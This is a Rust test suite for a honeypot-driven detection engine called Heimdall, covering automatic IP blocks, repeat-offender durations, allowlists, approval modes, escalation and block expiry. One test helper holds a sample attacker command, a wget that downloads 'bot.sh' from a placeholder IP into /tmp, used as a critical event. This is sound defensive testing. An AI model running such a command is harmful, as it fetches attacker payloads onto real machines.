//! Heimdall, the detection engine, seen through the API: block requests at
//! the threshold and on critical events, their durations for repeat
//! offenders, the allowlist, approval by policy in each mode, the mode moving
//! up and down on its own, the expiry sweep, incidents, resuming after a
//! restart, and the real Cowrie log end to end.
//!
//! The engine works beside the requests. `wait_for_engine` is the signal
//! that it has judged every stored event; what it does on its tick (expiry,
//! stepping the mode down) is awaited by polling for its visible result, and
//! the manual clock stands in for the passing of time.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chrono::{DateTime, FixedOffset, SecondsFormat};
use serde_json::{json, Value};
use tokio::task::JoinSet;
use valhalla::time::Timestamp;

use crate::support::{encode, instant, Reply, TestApp};

const EVENTS: &str = "/security/honeypot/events";
const ACTIONS: &str = "/security/actions/";
const INCIDENTS: &str = "/security/incidents";
const POLICY: &str = "/security/policy/";
const COWRIE_LOG: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/samples/honeypot/cowrie/cowrie.json"
);

/// Blocks created within this many seconds count as earlier offences.
const REPEAT_LOOKBACK_SECONDS: i64 = 30 * 24 * 3600;

/// A failed SSH login from `source` as `username`, occurred at the clock's now.
async fn failed_login(app: &TestApp, key: &str, source: &str, username: &str) -> Reply {
    let event = json!({
        "event_type": "auth_attempt", "source_ip": source, "username": username,
        "protocol": "ssh", "destination_port": 22, "occurred_at": app.now().to_string()
    });
    app.post_event(key, event).await.expect(201)
}

/// `count` failed logins from `source`, one second apart on the clock.
async fn failed_logins(app: &TestApp, key: &str, source: &str, username: &str, count: usize) {
    for _ in 0..count {
        failed_login(app, key, source, username).await;
        app.clock.advance_seconds(1);
    }
}

/// A login the honeypot accepted: a high event.
async fn intrusion(app: &TestApp, key: &str, source: &str, occurred_at: Timestamp) -> Reply {
    let event = json!({
        "event_type": "auth_attempt", "source_ip": source, "username": "root",
        "password": "admin", "payload": {"success": true},
        "occurred_at": occurred_at.to_string()
    });
    let stored = app.post_event(key, event).await.expect(201);
    assert_eq!(stored.body["threat_level"], "high", "{}", stored.text);
    stored
}

/// A command that fetches a payload: a critical event.
async fn malware_download(app: &TestApp, key: &str, source: &str) -> Reply {
    let event = json!({
        "event_type": "exploitation", "source_ip": source,
        "command": "wget http://198.51.100.9/bot.sh -O /tmp/bot.sh",
        "occurred_at": app.now().to_string()
    });
    let stored = app.post_event(key, event).await.expect(201);
    assert_eq!(stored.body["threat_level"], "critical", "{}", stored.text);
    stored
}

/// `at` written with an offset of `hours` from UTC, as a honeypot in that
/// zone writes it.
fn with_offset(at: Timestamp, hours: i32) -> String {
    let zone = FixedOffset::east_opt(hours * 3600).expect("a valid offset");
    DateTime::from_timestamp_millis(at.millis())
        .expect("in range")
        .with_timezone(&zone)
        .to_rfc3339_opts(SecondsFormat::Millis, false)
}

fn later(at: Timestamp, seconds: i64) -> Timestamp {
    at.plus_seconds(seconds).expect("in range")
}

/// Lets heimdall's requests skip human approval in normal mode.
async fn auto_approve_heimdall(app: &TestApp) {
    app.update_policy(json!({"auto_approve": {"normal": ["heimdall"]}}))
        .await
        .expect(200);
}

/// Every item of a list, all pages, in the list's order.
async fn list_all(app: &TestApp, path: &str) -> Vec<Value> {
    let separator = if path.contains('?') { '&' } else { '?' };
    let mut items = Vec::new();
    let mut cursor = String::new();
    loop {
        let page = app
            .admin_get(&format!("{path}{separator}limit=1000{cursor}"))
            .await
            .expect(200);
        items.extend(page.items());
        match page.body["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={}", encode(next)),
            None => return items,
        }
    }
}

/// Heimdall's block requests about the address `value`, oldest first.
async fn block_requests(app: &TestApp, value: &str) -> Vec<Value> {
    let path = format!("{ACTIONS}?source=heimdall&action_type=block_entity");
    let mut requests: Vec<Value> = list_all(app, &path)
        .await
        .into_iter()
        .filter(|request| request["payload"]["value"] == value)
        .collect();
    requests.reverse();
    requests
}

/// The escalation's requests to change the mode, oldest first.
async fn mode_requests(app: &TestApp) -> Vec<Value> {
    let path = format!("{ACTIONS}?source=system&action_type=set_mode");
    let mut requests = list_all(app, &path).await;
    requests.reverse();
    requests
}

/// Every block of `value`, active or not, oldest first.
async fn blocks_of(app: &TestApp, value: &str) -> Vec<Value> {
    let mut blocks = Vec::new();
    for active in [true, false] {
        let path = format!(
            "/security/policy/blocks?value={}&active={active}",
            encode(value)
        );
        blocks.extend(list_all(app, &path).await);
    }
    blocks.sort_by_key(|block| block["id"].as_i64());
    blocks
}

/// The active blocks of `value`.
async fn active_blocks_of(app: &TestApp, value: &str) -> Vec<Value> {
    let path = format!(
        "/security/policy/blocks?value={}&active=true",
        encode(value)
    );
    list_all(app, &path).await
}

/// Block `id` of `value`, active or not.
async fn block_of(app: &TestApp, value: &str, id: i64) -> Value {
    blocks_of(app, value)
        .await
        .into_iter()
        .find(|block| block["id"] == id)
        .unwrap_or_else(|| panic!("no block {id} of {value}"))
}

/// Incidents matching `query`, newest first.
async fn incidents(app: &TestApp, query: &str) -> Vec<Value> {
    list_all(app, &format!("{INCIDENTS}?{query}")).await
}

/// The one incident of `source`.
async fn incident_of(app: &TestApp, source: &str) -> Value {
    let found = incidents(app, &format!("source_ip={}", encode(source))).await;
    assert_eq!(found.len(), 1, "one incident of {source}: {found:?}");
    found[0].clone()
}

/// Audit entries of `kind` about the subject with id `subject_id`.
async fn audit_of(app: &TestApp, kind: &str, subject_id: i64) -> Vec<Value> {
    list_all(app, &format!("/security/audit?kind={kind}"))
        .await
        .into_iter()
        .filter(|entry| entry["subject_id"] == json!(subject_id.to_string()))
        .collect()
}

async fn current_mode(app: &TestApp) -> Value {
    app.admin_get(POLICY).await.expect(200).body["mode"].clone()
}

async fn dashboard(app: &TestApp) -> Value {
    app.admin_get("/security/dashboard").await.expect(200).body
}

/// Moves request `id` to `status` as the bootstrap admin.
async fn move_request(app: &TestApp, id: &Value, status: &str) -> Value {
    let path = format!("{ACTIONS}{id}");
    app.admin_post(&path, json!({"status": status}))
        .await
        .expect(200)
        .body
}

/// A person approves request `id`, then executes it.
async fn approve_and_execute(app: &TestApp, id: &Value) -> Value {
    move_request(app, id, "approved").await;
    let executed = move_request(app, id, "executed").await;
    assert_eq!(executed["status"], "executed", "{executed}");
    executed
}

/// Polls `probe` until it finds something, for at most ten seconds: for what
/// the engine does on its tick, which no request waits for.
async fn eventually<T>(what: &str, mut probe: impl AsyncFnMut() -> Option<T>) -> T {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let Some(found) = probe().await {
            return found;
        }
        assert!(Instant::now() < deadline, "{what} did not happen in 10 s");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Returns once the engine has finished a whole tick that read the clock at
/// or after its current time, so that what a tick did not do can be
/// asserted. A block expiring one second later is the marker; the tick that
/// sweeps a second marker starts after the one that swept the first ended.
/// Moves the clock two seconds on.
async fn wait_for_tick(app: &TestApp) {
    for _ in 0..2 {
        let marker = app
            .block("user", "tick-marker", json!({"duration_seconds": 1}))
            .await
            .expect(201)
            .id();
        app.clock.advance_seconds(1);
        eventually("the sweep of a tick marker", async || {
            let swept = audit_of(app, "block.expired", marker).await;
            (!swept.is_empty()).then_some(())
        })
        .await;
    }
}

/// One offence: `events` failed logins from `source` inside one window,
/// with heimdall auto-approved. Checks that it filed exactly one request,
/// executed into a block whose expiry is a valid instant `duration` after
/// its execution; moves the clock past that expiry; returns `duration`.
async fn offence(app: &TestApp, key: &str, source: &str, username: &str, events: usize) -> i64 {
    let before = block_requests(app, source).await.len();
    failed_logins(app, key, source, username, events).await;
    app.wait_for_engine().await;

    let requests = block_requests(app, source).await;
    assert_eq!(
        requests.len(),
        before + 1,
        "{username}: one request: {requests:?}"
    );
    let request = requests.last().expect("a request");
    assert_eq!(request["status"], "executed", "{username}: {request}");
    assert_eq!(request["requested_by"], "heimdall");
    let duration = request["payload"]["duration_seconds"]
        .as_i64()
        .unwrap_or_else(|| panic!("{username}: no duration in {request}"));
    let block_id = request["result"]["block_id"].as_i64().expect("a block id");
    let block = block_of(app, source, block_id).await;
    assert_eq!(block["action_request_id"], request["id"]);
    assert!(
        block["expires_at"]
            .as_str()
            .is_some_and(|text| text.ends_with('Z')),
        "{block}"
    );
    let expires_at = instant(&block["expires_at"]);
    let executed_at = instant(&request["executed_at"]);
    assert_eq!(
        Some(expires_at),
        executed_at.plus_seconds(duration),
        "{username}: {block}"
    );

    app.clock.set(later(expires_at, 1));
    duration
}

/// Posts `count` failed logins from `source` and checks that they file
/// nothing; then lets the window pass.
async fn short_burst_files_nothing(app: &TestApp, key: &str, source: &str, count: usize) {
    let before = block_requests(app, source).await.len();
    failed_logins(app, key, source, "short_burst", count).await;
    app.wait_for_engine().await;
    let requests = block_requests(app, source).await;
    assert_eq!(
        requests.len(),
        before,
        "{count} events filed a request: {requests:?}"
    );
    app.clock.advance_seconds(601);
}

backend_tests! {
    async fn fc_07_block_durations_double_per_offence_up_to_the_cap_and_never_overflow(
        app: TestApp
    ) {
        let source = "203.0.113.88";
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        app.update_policy(json!({
            "auto_block": {"threshold_events": 5, "window_seconds": 600, "block_seconds": 3600,
                           "repeat_multiplier": 2.0, "max_block_seconds": 604800},
            "auto_approve": {"normal": ["heimdall"]}
        }))
        .await
        .expect(200);
        short_burst_files_nothing(&app, &key, source, 4).await;

        let mut durations = Vec::new();
        for k in 1..=11 {
            durations.push(offence(&app, &key, source, &format!("tester_{k}"), 5).await);
        }
        assert_eq!(
            durations,
            [3600, 7200, 14400, 28800, 57600, 115200, 230400, 460800, 604800, 604800, 604800]
        );

        app.update_policy(json!({"auto_block": {"repeat_multiplier": 16.0}}))
            .await
            .expect(200);
        for k in 12..=61 {
            let duration = offence(&app, &key, source, &format!("tester_{k}"), 5).await;
            assert!((3600..=604_800).contains(&duration), "offence {k}: {duration}");
        }
        let failed = list_all(&app, &format!("{ACTIONS}?status=failed")).await;
        assert!(failed.is_empty(), "{failed:?}");
        short_burst_files_nothing(&app, &key, source, 4).await;

        // The ban time comes back down: after a month of quiet the next
        // offence starts again from block_seconds.
        app.clock.advance_seconds(REPEAT_LOOKBACK_SECONDS + 1);
        assert_eq!(offence(&app, &key, source, "tester_62", 5).await, 3600);
    }

    async fn fc_09_offsets_are_read_as_instants_and_each_burst_files_one_request(app: TestApp) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        let now = app.now();
        let bursts = [
            ("203.0.113.15", vec![2; 5]),
            ("203.0.113.16", vec![-5; 5]),
            // One burst written in three zones is still one burst.
            ("203.0.113.17", vec![2, -5, 0, 9, -11]),
        ];
        for (source, offsets) in &bursts {
            for hours in offsets {
                let event = json!({
                    "event_type": "auth_attempt", "source_ip": source, "username": "guest_q",
                    "occurred_at": with_offset(now, *hours)
                });
                let stored = app.post_event(&key, event).await.expect(201);
                assert_eq!(stored.body["occurred_at"], json!(now.to_string()), "{hours}");
            }
        }
        app.wait_for_engine().await;
        for (source, _) in &bursts {
            let requests = block_requests(&app, source).await;
            assert_eq!(requests.len(), 1, "{source}: {requests:?}");
            assert_eq!(requests[0]["status"], "pending", "normal mode waits for a person");
        }

        // The same wall-clock text seven hours apart: three events, then two,
        // never one burst of five.
        let earlier = now.minus_seconds(7 * 3600);
        assert_eq!(&with_offset(earlier, 2)[..23], &with_offset(now, -5)[..23]);
        for (at, hours, count) in [(earlier, 2, 3), (now, -5, 2)] {
            for _ in 0..count {
                let event = json!({
                    "event_type": "auth_attempt", "source_ip": "203.0.113.18",
                    "username": "guest_q", "occurred_at": with_offset(at, hours)
                });
                app.post_event(&key, event).await.expect(201);
            }
        }
        app.wait_for_engine().await;
        assert!(block_requests(&app, "203.0.113.18").await.is_empty());

        let naive = json!({
            "event_type": "auth_attempt", "source_ip": "203.0.113.19",
            "occurred_at": "2026-12-04T13:00:00"
        });
        app.post_event(&key, naive).await.expect_problem(422);
    }

    async fn fc_13_interleaved_attackers_each_get_their_own_block_and_expiry(app: TestApp) {
        let (a, b) = ("203.0.113.101", "203.0.113.102");
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        auto_approve_heimdall(&app).await;

        let mut fifth_judged_at = BTreeMap::new();
        for round in 1..=5 {
            for (source, username) in [(a, "alice_t"), (b, "bob_t")] {
                failed_login(&app, &key, source, username).await;
                app.wait_for_engine().await;
                if round == 5 {
                    fifth_judged_at.insert(source, app.now());
                }
                app.clock.advance_seconds(3);
            }
        }

        let mut blocks = BTreeMap::new();
        for source in [a, b] {
            let requests = block_requests(&app, source).await;
            assert_eq!(requests.len(), 1, "{source}: {requests:?}");
            assert_eq!(requests[0]["status"], "executed", "{}", requests[0]);
            let active = active_blocks_of(&app, source).await;
            assert_eq!(active.len(), 1, "{source}: {active:?}");
            assert_eq!(active[0]["action_request_id"], requests[0]["id"]);
            let expected = later(fifth_judged_at[source], 3600);
            assert_eq!(instant(&active[0]["expires_at"]), expected, "{source}");
            blocks.insert(source, active[0].clone());
        }

        let path = format!("/security/policy/blocks/{}/deactivate", blocks[a]["id"]);
        app.admin_post(&path, json!({"reason": "fc-13"})).await.expect(200);
        assert_eq!(app.check_ip(a).await.body["blocked"], false);
        assert_eq!(app.check_ip(b).await.body["blocked"], true);
        assert_eq!(active_blocks_of(&app, b).await, vec![blocks[b].clone()]);

        failed_login(&app, &key, a, "alice_t").await;
        app.wait_for_engine().await;
        assert_eq!(active_blocks_of(&app, b).await, vec![blocks[b].clone()]);
        assert_eq!(blocks_of(&app, b).await, vec![blocks[b].clone()]);
        assert_eq!(block_requests(&app, b).await.len(), 1);
        let b_id = blocks[b]["id"].as_i64().unwrap();
        assert!(audit_of(&app, "block.extended", b_id).await.is_empty());
    }

    async fn one_event_short_of_the_threshold_files_nothing_and_the_threshold_files_one(
        app: TestApp
    ) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        for (threshold, source) in [(5, "203.0.113.40"), (2, "203.0.113.41"), (1, "203.0.113.42")]
        {
            let rule = json!({"auto_block": {"threshold_events": threshold}});
            app.update_policy(rule).await.expect(200);

            failed_logins(&app, &key, source, "edge", threshold - 1).await;
            app.wait_for_engine().await;
            assert!(block_requests(&app, source).await.is_empty(), "{threshold} − 1 events");

            failed_logins(&app, &key, source, "edge", 1).await;
            app.wait_for_engine().await;
            let requests = block_requests(&app, source).await;
            assert_eq!(requests.len(), 1, "{threshold} events: {requests:?}");
            let request = &requests[0];
            assert_eq!(request["status"], "pending", "{request}");
            assert_eq!(request["source"], "heimdall");
            assert_eq!(request["requested_by"], "heimdall");
            assert_eq!(request["payload"]["entity_type"], "ip");
            assert_eq!(request["payload"]["duration_seconds"], 3600);
            let reason = request["reason"].as_str().expect("a reason");
            let saw = format!("{threshold} events from {source}");
            assert!(reason.contains(&saw), "{reason}");
            assert!(reason.contains(&format!("threshold {threshold}")), "{reason}");

            // While that request is open, more events file no second one.
            failed_logins(&app, &key, source, "edge", 3).await;
            app.wait_for_engine().await;
            assert_eq!(block_requests(&app, source).await.len(), 1, "{threshold}");
        }
    }

    async fn the_window_counts_events_by_when_they_occurred(app: TestApp) {
        let source = "203.0.113.43";
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        let start = app.now().minus_seconds(1200);
        let post_at = |at: Timestamp| {
            let event = json!({
                "event_type": "auth_attempt", "source_ip": source,
                "occurred_at": at.to_string()
            });
            let key = key.clone();
            let app = &app;
            async move { app.post_event(&key, event).await.expect(201) }
        };

        for _ in 0..4 {
            post_at(start).await;
        }
        // 601 s later: the window of 600 s ending there holds only itself.
        post_at(later(start, 601)).await;
        app.wait_for_engine().await;
        assert!(block_requests(&app, source).await.is_empty());

        // A late event 599 s after the first four completes five of them.
        post_at(later(start, 599)).await;
        app.wait_for_engine().await;
        assert_eq!(block_requests(&app, source).await.len(), 1);
    }

    async fn a_critical_event_files_a_block_request_at_once(app: TestApp) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        malware_download(&app, &key, "203.0.113.50").await;
        app.wait_for_engine().await;
        let requests = block_requests(&app, "203.0.113.50").await;
        assert_eq!(requests.len(), 1, "{requests:?}");
        let reason = requests[0]["reason"].as_str().expect("a reason");
        assert!(reason.contains("critical exploitation event from 203.0.113.50"), "{reason}");

        // A command that fetches nothing is high; one alone files nothing.
        let event = json!({
            "event_type": "exploitation", "source_ip": "203.0.113.51", "command": "uname -a"
        });
        let stored = app.post_event(&key, event).await.expect(201);
        assert_eq!(stored.body["threat_level"], "high");
        app.wait_for_engine().await;
        assert!(block_requests(&app, "203.0.113.51").await.is_empty());
    }

    async fn connections_alone_neither_count_toward_a_block_nor_open_an_incident(app: TestApp) {
        let source = "203.0.113.60";
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        for _ in 0..10 {
            let event = json!({"event_type": "connection", "source_ip": source});
            let stored = app.post_event(&key, event).await.expect(201);
            assert_eq!(stored.body["threat_level"], "info");
        }
        app.wait_for_engine().await;
        assert!(block_requests(&app, source).await.is_empty());
        assert!(incidents(&app, &format!("source_ip={source}")).await.is_empty());

        failed_logins(&app, &key, source, "root", 4).await;
        app.wait_for_engine().await;
        assert!(block_requests(&app, source).await.is_empty(), "connections do not count");
        let incident = incident_of(&app, source).await;
        assert_eq!(incident["event_count"], 4, "{incident}");
        assert_eq!(incident["severity"], "low");

        // Once an incident is open, connections are part of it.
        let event = json!({"event_type": "connection", "source_ip": source});
        app.post_event(&key, event).await.expect(201);
        app.wait_for_engine().await;
        assert_eq!(incident_of(&app, source).await["event_count"], 5);
    }

    async fn an_allowlisted_source_is_never_blocked_whatever_it_does(app: TestApp) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        auto_approve_heimdall(&app).await;
        let allowlist = json!(["127.0.0.0/8", "::1/128", "198.51.100.0/24"]);
        app.update_policy(json!({"allowlist": allowlist})).await.expect(200);

        let friend = "198.51.100.77";
        failed_logins(&app, &key, friend, "root", 10).await;
        intrusion(&app, &key, friend, app.now()).await;
        malware_download(&app, &key, friend).await;
        app.wait_for_engine().await;
        assert!(block_requests(&app, friend).await.is_empty());
        assert!(blocks_of(&app, friend).await.is_empty());
        assert_eq!(app.check_ip(friend).await.body["blocked"], false);
        // What it did is still on record.
        assert_eq!(incident_of(&app, friend).await["severity"], "critical");

        // The neighbouring network is not allowlisted.
        let stranger = "198.51.101.77";
        failed_logins(&app, &key, stranger, "root", 5).await;
        app.wait_for_engine().await;
        let requests = block_requests(&app, stranger).await;
        assert_eq!(requests.len(), 1, "{requests:?}");
        assert_eq!(requests[0]["status"], "executed");
        assert_eq!(app.check_ip(stranger).await.body["blocked"], true);
    }

    async fn a_source_already_blocked_or_awaiting_a_decision_gets_no_second_request(
        app: TestApp
    ) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        app.block("ip", "203.0.113.70", json!({"duration_seconds": 3600}))
            .await
            .expect(201);
        let filed = json!({
            "action_type": "block_entity", "reason": "seen in the firewall log",
            "payload": {"entity_type": "ip", "value": "203.0.113.71"}
        });
        let human = app.admin_post(ACTIONS, filed).await.expect(201);
        assert_eq!(human.body["status"], "pending");

        for source in ["203.0.113.70", "203.0.113.71"] {
            failed_logins(&app, &key, source, "root", 5).await;
            malware_download(&app, &key, source).await;
        }
        app.wait_for_engine().await;
        for source in ["203.0.113.70", "203.0.113.71"] {
            assert!(block_requests(&app, source).await.is_empty(), "{source}");
        }
        assert_eq!(blocks_of(&app, "203.0.113.70").await.len(), 1);
    }

    async fn heimdall_waits_for_a_person_in_normal_mode_and_is_executed_in_elevated_and_lockdown(
        app: TestApp
    ) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;

        failed_logins(&app, &key, "203.0.113.80", "root", 5).await;
        app.wait_for_engine().await;
        let requests = block_requests(&app, "203.0.113.80").await;
        assert_eq!(requests.len(), 1);
        assert_eq!(requests[0]["status"], "pending", "{}", requests[0]);
        assert!(blocks_of(&app, "203.0.113.80").await.is_empty());
        let executed = approve_and_execute(&app, &requests[0]["id"]).await;
        let block = &active_blocks_of(&app, "203.0.113.80").await[0];
        assert_eq!(block["action_request_id"], executed["id"]);
        assert_eq!(block["source"], "heimdall");

        for (mode, source) in [("elevated", "203.0.113.81"), ("lockdown", "203.0.113.82")] {
            app.update_policy(json!({"mode": mode})).await.expect(200);
            failed_logins(&app, &key, source, "root", 5).await;
            app.wait_for_engine().await;
            let requests = block_requests(&app, source).await;
            assert_eq!(requests.len(), 1, "{mode}");
            assert_eq!(requests[0]["status"], "executed", "{mode}: {}", requests[0]);
            assert_eq!(requests[0]["approved_by"], "policy:auto_approve", "{mode}");
            assert_eq!(app.check_ip(source).await.body["blocked"], true, "{mode}");
        }

        // Back in normal mode, a policy that auto-approves heimdall there.
        app.update_policy(json!({"mode": "normal"})).await.expect(200);
        auto_approve_heimdall(&app).await;
        failed_logins(&app, &key, "203.0.113.83", "root", 5).await;
        app.wait_for_engine().await;
        assert_eq!(block_requests(&app, "203.0.113.83").await[0]["status"], "executed");
    }

    async fn repeat_offenders_get_longer_blocks_up_to_the_cap(app: TestApp) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        auto_approve_heimdall(&app).await;
        let rule = json!({"auto_block": {"threshold_events": 2, "block_seconds": 10,
                                         "repeat_multiplier": 3.0, "max_block_seconds": 100}});
        app.update_policy(rule).await.expect(200);
        let mut durations = Vec::new();
        for k in 0..5 {
            durations.push(offence(&app, &key, "203.0.113.90", &format!("k{k}"), 2).await);
        }
        assert_eq!(durations, [10, 30, 90, 100, 100]);

        // Each address counts its own offences.
        assert_eq!(offence(&app, &key, "203.0.113.91", "first", 2).await, 10);

        let rule = json!({"auto_block": {"repeat_multiplier": 1.0}});
        app.update_policy(rule).await.expect(200);
        for k in 0..3 {
            assert_eq!(offence(&app, &key, "203.0.113.92", &format!("k{k}"), 2).await, 10);
        }
    }

    async fn the_mode_steps_up_through_system_requests_and_down_one_level_after_the_cooldown(
        app: TestApp
    ) {
        let (_, key) = app.honeypot("ssh-01", "ssh").await;
        // The test polls for the engine's ticks while in lockdown, with a
        // clock that only moves when told: lockdown's default limit (20 at
        // once, refilled as the clock moves) would refuse the polling.
        app.update_policy(json!({
            "escalation_thresholds": {"window_seconds": 300, "elevated": 3, "lockdown": 6},
            "deescalation_cooldown_seconds": 600,
            "rate_limits": {"lockdown": {"requests_per_minute": 6000, "burst": 600}}
        }))
        .await
        .expect(200);
        let t0 = app.now();

        // Three intrusions that occurred before the window count for nothing.
        for n in 1..=3 {
            intrusion(&app, &key, &format!("203.0.113.{n}"), t0.minus_seconds(301)).await;
        }
        app.wait_for_engine().await;
        assert!(mode_requests(&app).await.is_empty());

        for n in 4..=6 {
            intrusion(&app, &key, &format!("203.0.113.{n}"), t0).await;
        }
        app.wait_for_engine().await;
        let requests = mode_requests(&app).await;
        assert_eq!(requests.len(), 1, "{requests:?}");
        assert_eq!(requests[0]["payload"], json!({"mode": "elevated"}));
        assert_eq!(requests[0]["requested_by"], "system");
        assert_eq!(requests[0]["status"], "pending", "normal mode auto-approves no system request");
        approve_and_execute(&app, &requests[0]["id"]).await;
        assert_eq!(current_mode(&app).await, "elevated");

        for n in 7..=9 {
            intrusion(&app, &key, &format!("203.0.113.{n}"), t0).await;
        }
        app.wait_for_engine().await;
        let requests = mode_requests(&app).await;
        assert_eq!(requests.len(), 2, "{requests:?}");
        assert_eq!(requests[1]["payload"], json!({"mode": "lockdown"}));
        assert_eq!(requests[1]["status"], "pending");
        approve_and_execute(&app, &requests[1]["id"]).await;
        assert_eq!(current_mode(&app).await, "lockdown");

        // Below the threshold, but not yet for the cooldown: nothing.
        app.clock.set(later(t0, 597));
        wait_for_tick(&app).await;
        assert_eq!(mode_requests(&app).await.len(), 2);

        // After the cooldown, one level down; lockdown auto-approves system.
        app.clock.set(later(t0, 600));
        let step_down = eventually("the step down to elevated", async || {
            let requests = mode_requests(&app).await;
            requests.get(2).filter(|request| request["status"] == "executed").cloned()
        })
        .await;
        assert_eq!(step_down["payload"], json!({"mode": "elevated"}));
        assert_eq!(step_down["approved_by"], "policy:auto_approve");
        assert_eq!(current_mode(&app).await, "elevated");
        let stepped_at = instant(&step_down["executed_at"]);

        // The next level needs its own cooldown, and a person's approval.
        app.clock.set(later(stepped_at, 597));
        wait_for_tick(&app).await;
        assert_eq!(mode_requests(&app).await.len(), 3);
        app.clock.set(later(stepped_at, 600));
        let step_down = eventually("the step down to normal", async || {
            mode_requests(&app).await.get(3).cloned()
        })
        .await;
        assert_eq!(step_down["payload"], json!({"mode": "normal"}));
        assert_eq!(step_down["status"], "pending");
        approve_and_execute(&app, &step_down["id"]).await;
        assert_eq!(current_mode(&app).await, "normal");

        app.clock.advance_seconds(3600);
        wait_for_tick(&app).await;
        assert_eq!(mode_requests(&app).await.len(), 4, "nothing below normal");
    }

    async fn a_mode_set_by_hand_stays_until_auto_escalation_is_enabled_again(app: TestApp) {
        app.update_policy(json!({
            "escalation_thresholds": {"window_seconds": 300, "elevated": 3, "lockdown": 6},
            "deescalation_cooldown_seconds": 600,
            "mode": "elevated"
        }))
        .await
        .expect(200);

        app.clock.advance_seconds(2 * 3600);
        wait_for_tick(&app).await;
        assert!(mode_requests(&app).await.is_empty());
        assert_eq!(current_mode(&app).await, "elevated");

        app.update_policy(json!({"auto_escalation_enabled": false})).await.expect(200);
        app.update_policy(json!({"auto_escalation_enabled": true})).await.expect(200);
        let handed_back_at = app.now();
        app.clock.set(later(handed_back_at, 597));
        wait_for_tick(&app).await;
        assert!(mode_requests(&app).await.is_empty(), "the cooldown starts again");

        app.clock.set(later(handed_back_at, 600));
        let step_down = eventually("the step down", async || {
            mode_requests(&app).await.first().cloned()
        })
        .await;
        assert_eq!(step_down["payload"], json!({"mode": "normal"}));
        approve_and_execute(&app, &step_down["id"]).await;
        assert_eq!(current_mode(&app).await, "normal");
    }

    async fn a_mode_set_by_hand_stays_through_any_number_of_other_policy_changes(app: TestApp) {
        app.update_policy(json!({"deescalation_cooldown_seconds": 600, "mode": "elevated"}))
            .await
            .expect(200);
        // One change a second, as a person might make them: elevated mode
        // does not admit 210 requests at one instant.
        for n in 0..210 {
            let change = json!({"require_distinct_approver": n % 2 == 1});
            app.update_policy(change).await.expect(200);
            app.clock.advance_seconds(1);
        }

        app.clock.advance_seconds(2 * 3600);
        wait_for_tick(&app).await;
        assert!(mode_requests(&app).await.is_empty());
        assert_eq!(current_mode(&app).await, "elevated");
    }

    async fn no_token_can_sign_its_changes_as_the_engine_or_the_escalation(app: TestApp) {
        for name in ["system", "heimdall", "bootstrap", "policy:auto_approve", "System"] {
            let body = json!({"name": name, "role": "policy_owner"});
            let refused = app.admin_post("/security/tokens", body).await.expect_problem(422);
            assert_eq!(refused.body["errors"][0]["field"], "name", "{name}");
        }

        // So a mode a person sets is always theirs.
        let owner = app.token("system-owner", "policy_owner").await;
        app.update_policy(json!({"deescalation_cooldown_seconds": 600})).await.expect(200);
        app.post(POLICY, &owner, json!({"mode": "elevated"})).await.expect(200);
        app.clock.advance_seconds(3600);
        wait_for_tick(&app).await;
        assert!(mode_requests(&app).await.is_empty());
    }

    async fn the_sweep_records_each_expiry_in_the_audit_log(app: TestApp) {
        let short = app
            .block("ip", "198.51.100.90", json!({"duration_seconds": 60}))
            .await
            .expect(201);
        let long = app
            .block("ip", "198.51.100.91", json!({"duration_seconds": 3600}))
            .await
            .expect(201);
        app.block("ip", "198.51.100.92", json!({})).await.expect(201);
        let expires_at = instant(&short.body["expires_at"]);

        app.clock.advance_seconds(61);
        assert_eq!(app.check_ip("198.51.100.90").await.body["blocked"], false);
        let entries = eventually("the expiry in the audit log", async || {
            let entries = audit_of(&app, "block.expired", short.id()).await;
            (!entries.is_empty()).then_some(entries)
        })
        .await;
        assert_eq!(entries.len(), 1, "{entries:?}");
        assert_eq!(entries[0]["actor"], "system");
        assert_eq!(instant(&entries[0]["occurred_at"]), expires_at, "at its expiry instant");

        let block = block_of(&app, "198.51.100.90", short.id()).await;
        assert_eq!(block["is_active"], false, "{block}");
        assert_eq!(instant(&block["deactivated_at"]), expires_at);
        assert!(active_blocks_of(&app, "198.51.100.90").await.is_empty());
        assert!(audit_of(&app, "block.expired", long.id()).await.is_empty());
        assert_eq!(dashboard(&app).await["blocklist"]["active"], 2);
    }

    async fn each_expiry_is_recorded_once_even_when_the_address_is_blocked_again_meanwhile(
        app: TestApp
    ) {
        const BLOCKS: usize = 400;
        const WORKERS: usize = 8;
        let address = |n: usize| format!("198.18.{}.{}", n / 200, n % 200 + 1);
        let mut expired = Vec::new();
        for n in 0..BLOCKS {
            let block = app.block("ip", &address(n), json!({"duration_seconds": 60})).await;
            expired.push(block.expect(201).id());
        }

        // The sweep and the new blocks race for the same expired rows.
        app.clock.advance_seconds(61);
        let app = Arc::new(app);
        let mut workers = JoinSet::new();
        for worker in 0..WORKERS {
            let app = app.clone();
            workers.spawn(async move {
                for n in (worker..BLOCKS).step_by(WORKERS) {
                    let value = address(n);
                    let again = app.block("ip", &value, json!({"duration_seconds": 600}));
                    again.await.expect(201);
                }
            });
        }
        while let Some(done) = workers.join_next().await {
            done.expect("a worker");
        }

        let entries = eventually("every expiry in the audit log", async || {
            let entries = list_all(&app, "/security/audit?kind=block.expired").await;
            (entries.len() >= BLOCKS).then_some(entries)
        })
        .await;
        let mut per_block: BTreeMap<i64, usize> = BTreeMap::new();
        for entry in &entries {
            let id = entry["subject_id"].as_str().and_then(|id| id.parse().ok()).unwrap();
            *per_block.entry(id).or_default() += 1;
        }
        assert_eq!(per_block.keys().copied().collect::<Vec<_>>(), expired);
        let twice: Vec<_> = per_block.iter().filter(|(_, count)| **count > 1).collect();
        assert!(twice.is_empty(), "expiries recorded more than once: {twice:?}");
        assert_eq!(dashboard(&app).await["blocklist"]["active"], BLOCKS);
    }

